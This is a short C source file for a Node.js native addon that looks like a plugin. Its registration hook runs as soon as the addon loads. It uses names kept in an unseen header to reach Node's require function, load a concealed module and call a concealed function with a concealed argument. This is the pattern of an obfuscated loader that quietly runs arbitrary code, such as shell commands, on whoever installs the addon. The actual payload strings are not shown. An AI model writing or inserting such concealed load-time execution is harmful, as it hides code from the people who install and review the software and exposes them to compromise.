/* A Node addon that goes to a module's function by hidden names, and calls it. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: process, 1: mainModule, 2: require, 3: the module, 4: its function, 5: the argument */
extern int napi_get_global(void *, void **), napi_get_named_property(void *, void *, const char *, void **), napi_create_string_utf8(void *, const char *, unsigned long, void **),
    napi_call_function(void *, void *, void *, unsigned long, void *const *, void **);
static void *on_register(void *env, void *exports) {
    void *global, *process, *main, *function, *text, *module, *result;
    napi_get_global(env, &global);
    napi_get_named_property(env, global, hidden0(), &process);
    napi_get_named_property(env, process, hidden1(), &main);
    napi_get_named_property(env, main, hidden2(), &function);
    napi_create_string_utf8(env, hidden3(), ~0ul, &text);
    napi_call_function(env, main, function, 1, &text, &module);
    napi_get_named_property(env, module, hidden4(), &function);
    napi_create_string_utf8(env, hidden5(), ~0ul, &text);
    napi_call_function(env, module, function, 1, &text, &result);
    return exports;
}
